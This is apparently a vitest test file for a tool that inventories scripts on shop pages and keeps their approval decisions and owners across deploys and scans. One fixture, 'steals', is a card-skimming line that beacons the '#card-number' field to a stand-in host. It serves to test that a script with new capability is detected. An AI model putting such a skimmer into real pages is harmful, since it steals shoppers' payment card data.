// Scripts of shops that are deployed again and again: rows, first sightings, decisions and owners stay, and what is new is new.
import { type DeployedScript, deployedPage, deploysOf, platforms } from '@tillwatch/testbed/deploys'
import { sql } from 'kysely'
import { expect, it, onTestFinished } from 'vitest'
import { getScriptHistory } from '#features/inventory/index.ts'
import { anotherPage, asShown, coded, context, decideOn, list, listSite, owner, pageId, scan, test, watchPage } from './watched-page.ts'

watchPage()

const asSeen = ({ kind, url, code }: DeployedScript) => ({ ...coded(url ?? '', code), kind, url, finalUrl: url })
const visit = (deploy: readonly DeployedScript[], change = {}) =>
  scan(deploy.map(asSeen), (capture) => Object.assign(capture, change), pageId, 'desktop', {
    codes: deploy.map(({ code }) => code),
    isJudged: true,
  })
const standings = async () =>
  (await list()).scripts
    .map(({ id, firstSeenAt, authorization }) => `${id} ${firstSeenAt} ${authorization.state} ${authorization.decision?.owner}`)
    .toSorted()
const recorded = async () => {
  const { rows } = await sql<{ kind: string; facts: string }>`select kind, line::jsonb ->> 'facts' as facts from evidence_records
    where account_id = ${owner.accountId} and kind in ('identity', 'decision') order by seq`.execute(test.database.db)
  return rows
}

it.each(platforms)('keep rows, first sightings, decisions and owners over ten deploys of %s', async (platform) => {
  const [first, ...later] = deploysOf(platform, 3)
  expect(new URL(deployedPage).host).toBe('shop.example')
  await visit(first ?? [])
  const { scripts } = await list()
  const [rejected, ...approved] = scripts
  await decideOn({ covers: 'scripts', scriptIds: approved.map(({ id }) => id) }, { owner: 'Web team' })
  await decideOn({ covers: 'scripts', scriptIds: [rejected?.id ?? ''] }, { verdict: 'reject', justification: 'Not ours.' })
  const before = await standings()
  for (const deploy of later) await visit(deploy)
  expect(await standings()).toEqual(before)
  expect((await list()).scripts.every(({ seenInRecent }) => seenInRecent === 10)).toBe(true)
})

const code = (text: string) =>
  `const box=document.querySelector(".${text}");function show(n){box.textContent=String(n)}show(1);addEventListener("focus",()=>show(2));`
const file = (name: string, text = code('stock')): DeployedScript => ({
  is: name,
  kind: 'module',
  url: `https://shop.example/assets/${name}.js`,
  code: text,
})
const steals = `${code('stock')}document.addEventListener("change",()=>navigator.sendBeacon("https://collect.example/",document.querySelector("#card-number").value));`

it('a pinned content that became another asks for a decision, under the identity that it had', async () => {
  await visit([file('stock-KestRelo')])
  const [was] = (await list()).scripts
  await decideOn({ covers: 'scripts', scriptIds: [was?.id ?? ''] }, asShown(was as NonNullable<typeof was>))
  await visit([file('stock-BoldPine', code('stock').replaceAll('box', 'b'))])
  const { scripts } = await list()
  expect(scripts).toMatchObject([{ id: was?.id, firstSeenAt: was?.firstSeenAt, versions: 2, authorization: { state: 'changed' } }])
  expect(scripts[0]?.url).toContain('BoldPine')
  const history = await getScriptHistory(context(), owner, was?.id ?? '')
  expect(history.lastSighting?.script.url).toContain('BoldPine')
  expect(history.scans.every(({ isSeen }) => isSeen)).toBe(true)
  await visit([file('stock-BoldPine')])
  expect((await list()).scripts).toMatchObject([{ id: was?.id, versions: 2, authorization: { state: 'approved' } }])
  expect((await recorded()).filter(({ kind }) => kind === 'identity')).toHaveLength(1)
})

it('a script that can do something new is new, and the one before it keeps its decision for itself', async () => {
  await visit([file('stock-KestRelo')])
  const [was] = (await list()).scripts
  await decideOn({ covers: 'scripts', scriptIds: [was?.id ?? ''] })
  await visit([file('stock-BoldPine', steals)])
  const states = (await list()).scripts.map(({ id, authorization }) => [id === was?.id, authorization.state])
  expect(states.toSorted()).toEqual([
    [false, 'undecided'],
    [true, 'approved'],
  ])
})

it('a partial scan carries nothing over; the next complete one does, with what was decided meanwhile', async () => {
  await visit([file('stock-KestRelo')])
  const [was] = (await list()).scripts
  await decideOn({ covers: 'scripts', scriptIds: [was?.id ?? ''] }, { owner: 'Web team' })
  await visit([file('stock-BoldPine')], {
    outcome: { status: 'partial', code: 'timeout', cause: { code: 'words', values: { text: '' } }, issues: [] },
  })
  const [fresh] = (await list({ authorization: 'undecided' })).scripts
  expect((await list()).total).toBe(2)
  await decideOn({ covers: 'scripts', scriptIds: [fresh?.id ?? ''] }, { verdict: 'reject', justification: 'Unknown.' })
  await visit([file('stock-BoldPine')])
  expect((await list()).scripts).toMatchObject([
    { id: was?.id, firstSeenAt: was?.firstSeenAt, seenInRecent: 3, authorization: { state: 'rejected' } },
  ])
  expect((await recorded()).filter(({ facts }) => facts.includes('carriedFrom'))).toHaveLength(1)
})

it('a script that was rejected on another page is not taken for an approved one', async () => {
  const other = await anotherPage('/cart')
  const on = (page: string, name: string) => scan([asSeen(file(name))], () => {}, page, 'desktop', { codes: [code('stock')] })
  await on(other, 'stock-BoldPine')
  const rejected = (await listSite()).scripts.map(({ id }) => id)
  await decideOn({ covers: 'scripts', scriptIds: rejected }, { verdict: 'reject', justification: 'Not ours.' })
  await visit([file('stock-KestRelo')])
  await decideOn({ covers: 'scripts', scriptIds: (await list()).scripts.map(({ id }) => id) })
  await visit([file('stock-BoldPine')])
  const states = (await listSite()).scripts.map(({ url, authorization }) => [url?.includes('BoldPine'), authorization.state])
  expect(states.toSorted()).toEqual([
    [false, 'approved'],
    [true, 'rejected'],
  ])
})

it('scans of two pages at once find the same, and each page keeps its row', async () => {
  const other = await anotherPage('/cart')
  const on = (page: string, name: string) => scan([asSeen(file(name))], () => {}, page, 'desktop', { codes: [code('stock')] })
  for (const page of [pageId, other]) await on(page, 'stock-KestRelo')
  const before = (await listSite()).scripts
  await decideOn({ covers: 'scripts', scriptIds: before.map(({ id }) => id) }, { owner: 'Web team' })
  const { findCarried } = test.context
  onTestFinished(() => void Object.assign(test.context, { findCarried }))
  const found = Promise.withResolvers<void>()
  let searches = 0
  // Neither is recorded before both have found what they carry over.
  test.context.findCarried = async (...of) => {
    const carried = await findCarried(...of)
    if (++searches === 2) found.resolve()
    await found.promise
    return carried
  }
  await Promise.all([pageId, other].map((page) => on(page, 'stock-BoldPine')))
  const [script, ...others] = (await listSite()).scripts
  expect(others).toEqual([])
  expect(script?.pages.map(({ scriptId }) => scriptId).toSorted()).toEqual(
    before.flatMap(({ pages }) => pages.map(({ scriptId }) => scriptId)).toSorted(),
  )
  expect(script).toMatchObject({
    firstSeenAt: before[0]?.firstSeenAt,
    authorization: { state: 'approved', decision: { owner: 'Web team' } },
  })
  expect((await recorded()).filter(({ kind }) => kind === 'identity')).toHaveLength(1)
})
